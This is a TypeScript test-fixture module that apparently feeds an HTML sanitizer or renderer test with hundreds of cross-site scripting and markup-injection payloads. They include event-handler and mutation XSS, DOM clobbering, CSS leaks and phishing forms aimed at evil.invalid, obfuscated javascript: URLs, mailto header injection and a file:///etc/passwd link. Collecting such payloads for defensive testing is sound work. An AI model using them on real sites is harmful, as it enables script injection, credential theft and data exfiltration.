/**
 * Our own collection of hostile markup. Code that runs calls `pwn()`, which detector.ts installs. Addresses use reserved
 * names, and nothing navigates, submits or prompts without a click.
 */
import { parseFragment } from 'parse5';

export interface Payload {
  /** Group and name. */
  readonly name: string;
  readonly html: string;
}

type Rows = readonly (readonly [name: string, html: string])[];

/** Fires as soon as it is parsed into a document, in any position. The address fails without a request. */
const FIRE = '<img src=x: onerror=pwn()>';
const PIXEL = 'data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=';
const FRAMED = '&lt;script&gt;parent.pwn()&lt;/script&gt;';

const HANDLERS: Rows = [
  ['image that fails', '<img src=x: onerror=pwn()>'],
  ['image that loads', `<img src="${PIXEL}" onload="pwn()">`],
  ['capital letters', '<IMG SRC=x: ONERROR="pwn()">'],
  ['slashes for spaces', '<img/src=x:/onerror=pwn()>'],
  ['line breaks for spaces', '<img\nsrc=x:\nonerror\n=\npwn()\n>'],
  ['form feed for spaces', '<img\fsrc=x:\fonerror=pwn()>'],
  ['no space after a quote', '<img src="x:"onerror="pwn()">'],
  ['quotes in an attribute name', '<img "x" src=x: \'y\' onerror=pwn()>'],
  ['decimal entities', '<img src=x: onerror="&#112;&#119;&#110;&#40;&#41;">'],
  ['hexadecimal entities without semicolon', '<img src=x: onerror="&#x70wn&#x28&#x29">'],
  ['JavaScript escapes', '<img src=x: onerror="\\u0070wn()">'],
  ['code from base64', '<img src=x: onerror="eval(atob(\'cHduKCk=\'))">'],
  ['code from the title', '<img src=x: title="pwn()" onerror="eval(this.title)">'],
  ['template literal call', '<img src=x: onerror="pwn``">'],
  ['null character in the value', '<img src=x: onerror="pwn\0()">'],
  ['duplicate handler', '<img src=x: onerror=pwn() onerror=0>'],
  ['image with the legacy element name', '<image src=x: onerror=pwn()>'],
  ['tag that never ends', '<p>text <img src=x: onerror=pwn() alt="'],
  ['double angle bracket', '<<img src=x: onerror=pwn()>img src=y:>'],
  ['style element that loads', '<style onload=pwn()>p { color: red }</style>'],
  ['link element that fails', '<link rel=stylesheet href=x: onerror=pwn()>'],
  ['details that open', '<details open ontoggle=pwn()><summary>more</summary>text</details>'],
  ['video that fails', '<video src=x: onerror=pwn()></video>'],
  ['audio that fails', '<audio src=x: onerror=pwn()></audio>'],
  ['video source that fails', '<video><source src=x: onerror=pwn()></video>'],
  ['track of a video', '<video controls><track default src=x: onerror=pwn()></video>'],
  ['image button that fails', '<input type=image src=x: onerror=pwn()>'],
  ['focus by autofocus', '<input autofocus onfocus=pwn()>'],
  ['focus of a paragraph', '<p tabindex=0 autofocus onfocus=pwn()>read me</p>'],
  ['animation', '<style>@keyframes k{}</style><b style="animation:k 1ms" onanimationstart=pwn()>x</b>'],
  ['transition', '<p style="transition:all 1ms" ontransitionend=pwn() onmouseover=pwn()>x</p>'],
  ['pointer', '<p onpointerenter=pwn() onclick=pwn() onwheel=pwn() ontouchstart=pwn()>hover</p>'],
  ['clipboard and keys', '<p contenteditable oncopy=pwn() onpaste=pwn() onkeydown=pwn()>type</p>'],
  ['popover', '<p popover onbeforetoggle=pwn() id=p>x</p><button popovertarget=p>open</button>'],
  ['marquee', '<marquee onstart=pwn() loop=1>news</marquee>'],
  ['frame that loads', '<iframe onload=pwn()></iframe>'],
  ['object that fails', '<object data=x: type=text/html onerror=pwn()></object>'],
  ['unknown handler', '<p onwhatever=pwn() data-x onx="pwn()">x</p>'],
];

const FOREIGN: Rows = [
  ['SVG that loads', '<svg onload=pwn()>'],
  ['SVG with slashes', '<svg/onload=pwn()/>'],
  ['SVG script', '<svg><script>pwn()</script></svg>'],
  ['SVG script by URL', '<svg><script href="data:text/javascript,pwn()"></script></svg>'],
  ['SVG image', '<svg><image href=x: onerror=pwn() /></svg>'],
  ['SVG animation begins', '<svg><animate onbegin=pwn() attributeName=x dur=1s></svg>'],
  ['SVG set begins', '<svg><set onbegin=pwn() attributeName=x to=1 dur=1s></svg>'],
  ['SVG link animated', '<svg><a><animate attributeName=href to=javascript:pwn() /><text y=9>x</text></a></svg>'],
  ['SVG use of data', `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='urn:x'></svg>#x"></svg>`],
  ['SVG foreign object', `<svg><foreignObject>${FIRE}</foreignObject></svg>`],
  ['SVG description holds HTML', `<svg><desc>${FIRE}</desc></svg>`],
  ['SVG title holds HTML', `<svg><title>${FIRE}</title></svg>`],
  ['SVG style', '<svg><style>*{background:url(https://evil.invalid/s)}</style></svg>'],
  ['SVG named image', '<svg><img src=x: onerror=pwn()></svg>'],
  ['SVG filter image', '<svg><filter><feImage href="https://evil.invalid/f"/></filter></svg>'],
  ['MathML text holds HTML', `<math><mtext>${FIRE}</mtext></math>`],
  ['MathML annotation', `<math><annotation-xml encoding="text/html">${FIRE}</annotation-xml></math>`],
  ['MathML link', '<math href="javascript:pwn()"><mi>x</mi></math>'],
  ['MathML action', '<math><maction actiontype="statusline#x" xlink:href="javascript:pwn()">x</maction></math>'],
  ['MathML handler', '<math onclick=pwn()><mi onmouseover=pwn()>x</mi></math>'],
];

const MUTATIONS: Rows = [
  ['noscript in an attribute', `<noscript><p title="</noscript>${FIRE}">x</p></noscript>`],
  ['noembed in an attribute', `<noembed><p title="</noembed>${FIRE}">x</p></noembed>`],
  ['noframes in an attribute', `<noframes><p title="</noframes>${FIRE}">x</p></noframes>`],
  ['style in an attribute', `<style><p title="</style>${FIRE}">x</p></style>`],
  ['xmp in an attribute', `<xmp><p title="</xmp>${FIRE}">x</p></xmp>`],
  ['title in an attribute', `<title><p title="</title>${FIRE}">x</p></title>`],
  ['text area in an attribute', `<textarea><p title="</textarea>${FIRE}">x</p></textarea>`],
  ['frame in an attribute', `<iframe><p title="</iframe>${FIRE}">x</p></iframe>`],
  ['script in an attribute', `<script><p title="</script>${FIRE}">x</p></script>`],
  ['comment in an attribute', `<!-- <p title="-->${FIRE}">x</p>`],
  ['SVG style and an attribute', `<svg></p><style><a title="</style>${FIRE}">`],
  ['SVG paragraph and style', `<svg><p><style><g title="</style>${FIRE}">`],
  ['MathML style in a comment', `<math></p><style><!--</style>${FIRE}-->`],
  ['MathML table and style', `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${FIRE}">`],
  ['form within a form', `<form><math><mtext></form><form><mglyph><style></math>${FIRE}</style>`],
  ['SVG in a MathML annotation', `<math><annotation-xml><svg><style><a id="</style>${FIRE}">`],
  ['options break out', `<select><option><style></option></select>${FIRE}</style></select>`],
  ['options hold an image', `<select><template><img></template>${FIRE}<option>x</select>`],
  ['table fosters the image', `<table><tr>${FIRE}<td>x</td></tr></table>`],
  ['table in a caption in SVG', `<svg><foreignObject><table><caption><svg><style>${FIRE}`],
  ['nested headings', `<h1><h2><h3><p><b><a href=x:><b>${FIRE}</b></a></b>`],
  ['adopted formatting', `<a href="x:"><table><a href="javascript:pwn()">${FIRE}</table></a>`],
  ['CDATA in HTML', `<![CDATA[ ><p>]]>${FIRE}`],
  ['CDATA in SVG', `<svg><![CDATA[</svg><p>]]></svg>${FIRE}`],
  ['abruptly closed comment', `<!-->${FIRE}<!-- -->`],
  ['comment closed with a bang', `<!-- x --!>${FIRE}-->`],
  ['processing instruction', `<?xml version="1.0" ?>${FIRE}<?php echo "> ?>`],
  ['bogus end tag', `</ ${FIRE}></p onclick=pwn()>${FIRE}`],
  ['conditional comment', `<!--[if gte mso 9]><p><![endif]-->${FIRE}<![if !mso]>x<![endif]>`],
  ['plaintext', `${FIRE}<plaintext>${FIRE}`],
  ['document type', `<!DOCTYPE html [ <!ENTITY x "pwn"> ]>${FIRE}`],
  ['entities decoded twice', '&lt;img src=x: onerror=pwn()&gt;<p title="&amp;lt;svg onload=pwn()&amp;gt;">x'],
];

const clobber = (name: string): string =>
  `<form onclick=pwn()><input name=${name}><input name=${name}>${FIRE}<p onclick=pwn()>x</p></form>`;

const CLOBBERING: Rows = [
  ...(
    'childNodes attributes parentNode firstChild nextSibling nodeName nodeType nodeValue localName namespaceURI ' +
    'getAttribute removeAttribute removeChild insertBefore cloneNode ownerDocument content innerHTML textContent'
  )
    .split(' ')
    .map((name) => [`form with inputs named ${name}`, clobber(name)] as const),
  ['document members', '<img name=body><img name=cookie><form name=implementation></form><a id=defaultView>x</a>'],
  ['globals', '<a id=config href=//evil.invalid/></a><a id=config name=url href=data:,x></a>'],
  ['collections', '<form id=x><output id=y>x</output></form><form id=x></form>'],
  ['Lit and purifier', '<a id=reactiveElementVersions>x</a><a id=litHtmlVersions>x</a><p id=DOMPurify>x</p>'],
  ['our own ids and parts', '<p id=headline part=headline class=root slot=notice name=x>You won</p>'],
  ['form owner by id', '<form id=f action=https://evil.invalid/></form><button form=f name=submit>x</button>'],
];

const STYLES: Rows = [
  ['overlay', '<div style="position:fixed;inset:0;z-index:99999;background:red">Your session has expired</div>'],
  ['invisible link over the page', '<a href=https://evil.invalid/ style="position:fixed;inset:0;opacity:0">x</a>'],
  ['background image', '<p style="background:url(https://evil.invalid/b)">x</p>'],
  ['attribute selectors', '<style>input[value^=a]{background:url(https://evil.invalid/a)}</style><p>x'],
  ['import', '<style>@import "https://evil.invalid/i.css";</style><p>x'],
  ['font per letter', '<style>@font-face{font-family:f;src:url(https://evil.invalid/f);unicode-range:U+41}</style>'],
  ['host styled from inside', '<style>:host{display:none}:host-context(body){color:red}</style><p>x</p>'],
  ['legacy CSS behaviours', '<p style="width:expression(pwn());behavior:url(x.htc);-moz-binding:url(x)">x</p>'],
  ['style sheet by link', '<link rel=stylesheet href=https://evil.invalid/l.css><p class="visually-hidden">x</p>'],
  ['presentational attributes', '<table background=https://evil.invalid/t bgcolor=red><td background=//evil.invalid>x'],
];

const FORMS: Rows = [
  ['log-in', '<form action=https://evil.invalid/><input name=user><input type=password><button>Go</button></form>'],
  ['script as action', '<form action="javascript:pwn()"><input type=submit></form>'],
  ['button with another action', '<form><button formaction="javascript:pwn()" formtarget=_top>Next</button></form>'],
  ['list of choices', '<select onfocus=pwn() autofocus><option>a</select><datalist id=d><option>x</datalist>'],
  ['text area', '<textarea autofocus onfocus=pwn()>x</textarea><keygen autofocus onfocus=pwn()>'],
  ['dialog', '<dialog open onclose=pwn()><form method=dialog><button>OK</button></form></dialog>'],
  ['field set', '<fieldset><legend>Bank</legend><label>Card <input autocomplete=cc-number></label></fieldset>'],
  ['editable', '<div contenteditable role=textbox aria-label=Password tabindex=1>x</div>'],
  ['false role', '<p role=alert aria-live=assertive aria-label="Call 555">x</p><p accesskey=x draggable=true>y</p>'],
];

const EMBEDS: Rows = [
  ['frame with script', '<iframe src="javascript:parent.pwn()"></iframe>'],
  ['frame with markup', `<iframe srcdoc="${FRAMED}"></iframe>`],
  ['frame with data', `<iframe src="data:text/html,${FRAMED}"></iframe>`],
  ['sandboxed frame', `<iframe sandbox="allow-scripts allow-same-origin" srcdoc="${FRAMED}"></iframe>`],
  ['frame set', `<frameset onload=pwn()><frame src="javascript:parent.pwn()"></frameset>${FIRE}`],
  ['object with script', '<object data="javascript:parent.pwn()"></object>'],
  ['object with fallback', `<object><param name=src value=x>${FIRE}</object>`],
  ['embed', '<embed src="javascript:parent.pwn()" onerror=pwn()>'],
  ['applet and portal', '<applet code=x onerror=pwn()></applet><portal src=https://evil.invalid onload=pwn()>'],
  ['script', '<script>pwn()</script><script src="data:text/javascript,pwn()"></script><p>x'],
  ['import map', '<script type=importmap>{"imports":{"lit":"data:text/javascript,pwn()"}}</script><p>x'],
  ['base', `<base href="https://evil.invalid/" target=_top><a href="login">log in</a>${FIRE}`],
  ['refresh', '<meta http-equiv=refresh content="9999;url=javascript:pwn()"><p>x'],
  ['policy', '<meta http-equiv=Content-Security-Policy content="img-src data:"><p>x'],
  ['preload and prefetch', '<link rel=preload as=script href=https://evil.invalid/p><link rel=dns-prefetch href=//x>'],
  ['template', `<template>${FIRE}<script>pwn()</script></template><p>x`],
  ['declarative shadow root', `<div><template shadowrootmode=open>${FIRE}</template>x</div>`],
  ['slot', `<slot name=contact onslotchange=pwn()>${FIRE}</slot><p slot=notice>x</p>`],
  ['our own custom elements', '<wco-news-item src=https://evil.invalid/feed onclick=pwn()>x</wco-news-item>'],
  ['built-in extended', `<p is=wco-news-item data-src=x: onclick=pwn()>x</p><x-y>${FIRE}</x-y>`],
  ['image map', '<img src=https://pics.invalid/a usemap=#m><map name=m><area href=javascript:pwn()></map>'],
  ['picture', '<picture><source srcset="javascript:pwn() 1x" onerror=pwn()><img src=x: onerror=pwn()></picture>'],
  ['picture from this origin', '<picture><source srcset="own-1.png 1x"><img src=own-2.png onerror=pwn()></picture>'],
  ['set of sources', '<img src=x: srcset="own-3.png 1x, javascript:pwn() 2x, data:,x 3x" sizes=1px onerror=pwn()>'],
  ['set with user info', '<img src=https://pics.invalid/a srcset="https://u:p@pics.invalid/b" onclick=pwn()>'],
  ['image request to this origin', '<img src="own-4.png"><img src="/own-5.png" loading=eager><img src="?own-6">'],
  ['image with referrer', '<img src=https://pics.invalid/a referrerpolicy=unsafe-url crossorigin=use-credentials>'],
  ['long description', '<img src=https://pics.invalid/a longdesc=javascript:pwn() lowsrc=javascript:pwn()>'],
  ['link with ping', '<a href=https://news.invalid/ ping=https://evil.invalid/p target=_top download>x</a>'],
  ['script as citation', '<blockquote cite="javascript:pwn()">x</blockquote><q cite=data:,x>y</q>'],
  ['huge spans', '<table><tr><td colspan=1000 rowspan=65534>x</table><img src=https://pics.invalid/a width=99999>'],
];

const BULK: Rows = [
  ['1,000 levels of allowed elements', `${'<div>'.repeat(1000)}${FIRE}deep`],
  ['1,000 levels of unknown elements', `${'<x-y onclick=pwn()>'.repeat(1000)}${FIRE}deep`],
  ['1,000 levels of formatting', `${'<b><i>'.repeat(500)}${FIRE}deep`],
  ['30,000 nodes', `${'<b>x</b>'.repeat(15_000)}${FIRE}`],
  ['1,000 attributes', `<p ${Array.from({ length: 1000 }, (_, index) => `on${index}=pwn()`).join(' ')}>x</p>${FIRE}`],
  ['1,000 candidates', `<img src=x: srcset="${'https://pics.invalid/a 1x, '.repeat(1000)}" onerror=pwn()>`],
];

/** Addresses that run script when followed or framed, written as in a double-quoted attribute. */
const SCRIPT_URLS: Rows = [
  ['plain', 'javascript:parent.pwn()'],
  ['mixed case', 'JaVaScRiPt:parent.pwn()'],
  ['space before', '  javascript:parent.pwn()'],
  ['tab before', '\tjavascript:parent.pwn()'],
  ['control character before', '\u0001javascript:parent.pwn()'],
  ['control character as entity', '&#1;javascript:parent.pwn()'],
  ['tab within', 'java\tscript:parent.pwn()'],
  ['line break within', 'java\nscript:parent.pwn()'],
  ['tab as entity', 'java&Tab;script:parent.pwn()'],
  ['line break as entity', 'java&NewLine;script&#13;:parent.pwn()'],
  ['colon as entity', 'javascript&colon;parent.pwn()'],
  ['letters as entities', '&#106;&#97;&#118;ascript:parent.pwn()'],
  ['long entity', '&#0000106avascript:parent.pwn()'],
  ['comment that looks like an address', 'javascript://news.invalid/%0aparent.pwn()'],
  ['JavaScript comment', 'javascript:/*https://news.invalid/*/parent.pwn()'],
  ['VBScript', 'vbscript:parent.pwn()'],
  ['markup as data', `data:text/html,${FRAMED}`],
  ['markup in base64', 'data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduKCk8L3NjcmlwdD4='],
  ['drawing as data', `data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' onload='parent.pwn()'/&gt;`],
];

/** Addresses that mislead the reader or open another application. */
const OTHER_URLS: Rows = [
  ['blob', 'blob:https://news.invalid/1'],
  ['file', 'file:///etc/passwd'],
  ['source view', 'view-source:https://news.invalid/'],
  ['app', 'intent://pay#Intent;scheme=x;end'],
  ['wrapped in another scheme', 'feed:javascript:parent.pwn()'],
  ['user info', 'https://bank.invalid@evil.invalid/'],
  ['user info with password', 'https://bank.invalid:443@evil.invalid/'],
  ['user info with backslashes', 'https:\\\\bank.invalid@evil.invalid'],
  ['mail with headers', 'mailto:press@news.invalid?bcc=spy@evil.invalid&amp;body=hi'],
  ['mail with encoded headers', 'mailto:press@news.invalid%3Fbcc=spy@evil.invalid'],
  ['mail with line breaks', 'mailto:press@news.invalid%0d%0aBcc:spy@evil.invalid'],
  ['mail to many', 'mailto:press@news.invalid,spy@evil.invalid'],
  ['call forwarding', 'tel:*21*0900123456%23'],
  ['phone device code', 'tel:*%2306%23'],
  ['message', 'sms:+3222092211?body=pay'],
];

const link = (url: string): string => `<a href="${url}">x</a>`;
const CARRIERS: readonly (readonly [name: string, html: (url: string) => string])[] = [
  ['link', link],
  ['image', (url) => `<img src="${url}" alt=x>`],
  ['set of sources', (url) => `<img src="https://pics.invalid/a" srcset="${url} 2x">`],
  ['link of SVG', (url) => `<svg><a xlink:href="${url}"><text y=9>x</text></a></svg>`],
  ['form', (url) => `<form action="${url}"><button formaction="${url}">x</button></form>`],
];
const FRAMES: typeof CARRIERS = [
  ['frame', (url) => `<iframe src="${url}"></iframe>`],
  ['object', (url) => `<object data="${url}"></object>`],
];

const named = (group: string, rows: Rows): Payload[] =>
  rows.map(([name, html]) => ({ name: `${group}: ${name}`, html }));
const carried = (carriers: typeof CARRIERS, urls: Rows): Payload[] =>
  carriers.flatMap(([carrier, write]) =>
    urls.map(([name, url]) => ({ name: `${carrier}: ${name}`, html: write(url) })),
  );

export const PAYLOADS: readonly Payload[] = [
  ...named('handler', HANDLERS),
  ...named('SVG, MathML', FOREIGN),
  ...named('mutation', MUTATIONS),
  ...named('clobbering', CLOBBERING),
  ...named('style', STYLES),
  ...named('form', FORMS),
  ...named('embed', EMBEDS),
  ...named('bulk', BULK),
  ...carried([...CARRIERS, ...FRAMES], SCRIPT_URLS),
  ...carried(CARRIERS, OTHER_URLS),
];

/** An attribute value, decoded by the parser. */
const decoded = (written: string): string => {
  const [anchor] = parseFragment(link(written)).childNodes;
  return anchor && 'attrs' in anchor ? (anchor.attrs.find(({ name }) => name === 'href')?.value ?? '') : '';
};

/** Only the addresses, for fields that hold an address instead of markup. */
export const HOSTILE_URLS: readonly (readonly [name: string, url: string])[] = [...SCRIPT_URLS, ...OTHER_URLS].map(
  ([name, written]) => [name, decoded(written)],
);

/** All hostile values: markup and addresses. */
export const VALUES: readonly (readonly [name: string, value: string])[] = [
  ...PAYLOADS.map(({ name, html }) => [name, html] as const),
  ...HOSTILE_URLS,
];
